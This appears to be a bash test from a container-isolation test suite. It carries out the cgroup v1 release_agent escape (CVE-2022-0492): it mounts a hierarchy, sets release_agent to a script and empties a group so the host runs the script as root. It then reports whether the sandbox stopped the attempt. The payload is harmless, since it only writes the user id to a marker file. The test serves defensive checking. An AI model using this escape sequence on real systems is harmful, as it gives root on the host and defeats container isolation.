# shellcheck shell=bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# K1: mounts a cgroup v1 hierarchy and lets the kernel run its release agent as root of the host
# mechanism: the agent's path is written into the mounted hierarchy, a group in it is emptied (CVE-2022-0492 did it from a user namespace)
# stopped by: a hierarchy can be made in the first cgroup namespace only, its agent set with CAP_SYS_ADMIN over the host only
# weakened: no user namespace, the host's cgroup namespace
# needs: kernel

marker=/run/test-host/k1-marker

attack() {
        local said agent status=0
        rm -f "$marker"
        agent=$(upper_of "$place")/k1-agent
        said=$(in_place_sh "printf '#!/bin/sh\nid -u >$marker\n' >/k1-agent && chmod 755 /k1-agent && mkdir -p /k1 || exit 3
                mount -t cgroup -o none,name=k1 k1 /k1 2>&1 || exit 6
                echo '$agent' >/k1/release_agent && mkdir -p /k1/x && echo 1 >/k1/x/notify_on_release || exit 7
                sh -c 'echo \$\$ >/k1/x/cgroup.procs'") || status=$?
        case $status in
        0)
                wait_for 10 test -s "$marker" && breached "the host ran the agent as uid $(<"$marker")"
                broken "the agent was set and did not run"
                ;;
        6) stopped "mount -t cgroup: ${said##*: }" ;;
        7) stopped "release_agent: ${said##*: }" ;;
        *) broken "$said" ;;
        esac
}

weaken() { raw no-userns host-cgroup; }

cleanup() {
        in_place_sh 'rmdir /k1/x 2>/dev/null; mountpoint -q /k1 && umount /k1; rm -rf /k1 /k1-agent'
        rm -f "$marker"
}
